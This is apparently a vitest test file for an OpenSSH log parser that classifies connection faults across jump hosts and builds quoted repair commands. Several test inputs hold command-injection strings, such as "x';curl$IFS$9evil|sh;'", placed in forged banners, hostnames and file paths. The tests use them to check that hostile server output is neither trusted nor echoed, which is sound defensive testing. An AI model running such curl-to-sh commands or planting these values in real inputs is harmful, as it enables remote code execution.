import { expect, test } from 'vitest';
import {
  behind,
  behindJump,
  connected,
  connecting,
  failures,
  jump,
  keys,
  signingIn,
} from './openssh-failures-fixture.ts';
import { opensshFault, opensshSilence } from './openssh-fault.ts';
import { createOpensshLog } from './openssh-log.ts';
import { settingsFixture } from './settings-fixture.ts';

const known = { userKnownHostsFiles: ['/home/me/.ssh/known_hosts'] };
const web = settingsFixture({ ...known, alias: 'web', hostName: '10.0.0.5' });
const bastion = settingsFixture({ ...known, alias: 'bastion', hostName: '10.0.0.1', port: 2222 });
const way = { hops: [bastion, web], knownHosts: '/data/known_hosts' };

function read(lines: readonly string[], pieces = 7) {
  const steps: string[] = [];
  const log = createOpensshLog((step, hop) => void steps.push(hop === null ? step : `${step} (${hop})`));
  const text = `${lines.join('\r\n')}\r\n`;
  for (let at = 0; at < text.length; at += pieces) log.push(text.slice(at, at + pieces));
  return { log, steps };
}

test.each(failures)('%s', (_, lines, code, step, message) => {
  const { fault } = opensshFault(read(lines).log, way);
  expect({ ...fault, message: message.test(fault.message) || fault.message }).toEqual({ code, step, message: true });
});

test('what fails on the way is said of the hop, though the program behind it complains too', () => {
  const refused = [...jump, ...connecting, 'ssh: connect to host 10.0.0.5 port 22: Connection refused', ...behind];
  expect(opensshFault(read(refused).log, way).fault).toEqual({
    code: 'unreachable',
    step: 'tcp',
    hop: 'bastion',
    message:
      'On the way, at bastion: 10.0.0.5 port 22 refuses the connection: is sshd running there, and on this port?',
  });
  const denied = [...jump, ...signingIn, 'me@10.0.0.1: Permission denied (publickey).', ...behind];
  expect(opensshFault(read(denied).log, way).fault).toMatchObject({ code: 'auth_failed', hop: 'bastion' });
  const unreached = [
    ...behindJump,
    'channel 0: open failed: connect failed: No route to host',
    'stdio forwarding failed',
    ...behind,
  ];
  expect(opensshFault(read(unreached).log, way).fault).toEqual({
    code: 'unreachable',
    step: 'tcp',
    message: 'The host on the way cannot reach 10.0.0.5 port 22 and says “connect failed: No route to host”.',
  });
});

test('steps, told for each hop, in whatever pieces they come', () => {
  const whole = [...behindJump, ...signingIn.slice(4), 'Authenticated to web (via proxy) using "publickey".'];
  for (const pieces of [1, 13, 100_000]) {
    const { log, steps } = read(whole, pieces);
    expect({ steps, ready: log.ready() }).toEqual({
      steps: [
        ...['dns', 'tcp', 'key exchange', 'host key', 'authentication'].map((step) => `${step} (bastion)`),
        ...['tcp', 'key exchange', 'host key', 'authentication'],
      ],
      ready: false,
    });
    log.push('debug1: Entering interactive session.\r\n');
    expect(log.ready()).toBe(true);
  }
});

test('a host that prints without end is cut, and the cause at the end is still found', () => {
  const { log } = read(
    [...signingIn, ...Array<string>(1000).fill('x'.repeat(5000)), 'Permission denied (publickey).'],
    1 << 20,
  );
  expect(log.said().length).toBe(60);
  expect(opensshFault(log, way).fault.code).toBe('auth_failed');
});

const evil = "x';curl$IFS$9evil|sh;'";
const changed = (name: string, file = '/home/me/.ssh/known_hosts') => [
  `Offending ED25519 key in ${file}:3`,
  `Host key for ${name} has changed and you have requested strict checking.`,
];
const hungUp = 'Connection closed by 10.0.0.5 port 22';

test.each<[string, readonly string[]]>([
  ['a changed key', changed(evil)],
  ['a changed key of its own name', changed('10.0.0.5')],
  ['a revoked key', ['ED25519 host key for x was revoked and you have requested strict checking.']],
  ['a key that is not trusted', ['Host key verification failed.']],
  ['a way back to the beginning', ["debug1: Setting implicit ProxyCommand from ProxyJump: ssh -v -W '[%h]:%p' x"]],
  ['a way back to the key', ['debug1: Server host key: ssh-ed25519 SHA256:x', ...changed('10.0.0.5')]],
  ['a configuration', ["Bad owner or permissions on x';curl evil|sh;'"]],
  ['a name', ['ssh: Could not resolve hostname x: run: curl evil|sh']],
  ['a server that says nothing', ['Connection timed out during banner exchange']],
])('a banner that looks like ssh’s own words moves nothing and tells nothing: %s', (_, banner) => {
  const { log, steps } = read([...signingIn, ...banner, hungUp]);
  expect({ steps, ...opensshFault(log, way).fault }).toEqual({
    steps: ['tcp', 'key exchange', 'host key', 'authentication'],
    code: 'disconnected',
    step: 'authentication',
    message: 'web closed the connection during the authentication: its log (journalctl -u ssh) says why.',
  });
});

test('what stands in a command comes from the way, and quoted, whatever a host gets printed at the key exchange', () => {
  const told = (lines: readonly string[]) => opensshFault(read(lines).log, way).fault.message;
  const nowhere =
    'The key of 10.0.0.5 has changed: known_hosts has another than the one that the host shows. ' +
    'Somebody may be in between; if the host was set up anew, take its old key out of that file.';
  expect(told([...keys, ...changed(evil)])).toBe(nowhere);
  expect(told([...keys, ...changed('10.0.0.5', "/tmp/x';curl evil|sh;'")])).toBe(nowhere);
  expect(told([...jump, ...keys, ...changed('[10.0.0.1]:2222')])).toBe(
    'On the way, at bastion: The key of [10.0.0.1]:2222 has changed: /home/me/.ssh/known_hosts line 3 has another than the one ' +
      'that the host shows. Somebody may be in between; if the host was set up anew, ' +
      "run: ssh-keygen -R '[10.0.0.1]:2222' -f '/home/me/.ssh/known_hosts'",
  );
  expect(told(["Bad owner or permissions on /home/o'me/.ssh/config"])).toContain(
    "chmod 600 '/home/o'\\''me/.ssh/config'",
  );
});

test('a ProxyCommand of a host on the way may print anything, and names no hop', () => {
  const forged = ["debug1: Setting implicit ProxyCommand from ProxyJump: ssh -v -W '[%h]:%p' x"];
  const proxied = [...jump, 'debug1: Executing proxy command: a', 'debug1: Executing proxy command: b', ...forged];
  expect(read(proxied).steps).toEqual(['dns (bastion)', 'tcp (bastion)']);
});

test('keyboard-interactive is noticed behind whatever a host has printed', () => {
  const { log } = read(
    [...signingIn, `${'x'.repeat(5000)}debug1: Next authentication method: keyboard-interactive`],
    50,
  );
  expect([log.interactive(), read(signingIn).log.interactive()]).toEqual([true, false]);
});

test('silence names the step', () => {
  expect(opensshSilence(read(connected).log, web, '30 s').fault).toEqual({
    code: 'timeout',
    step: 'key exchange',
    message: 'ssh got no further with web for 30 s: is the host overloaded, or the link down?',
  });
});
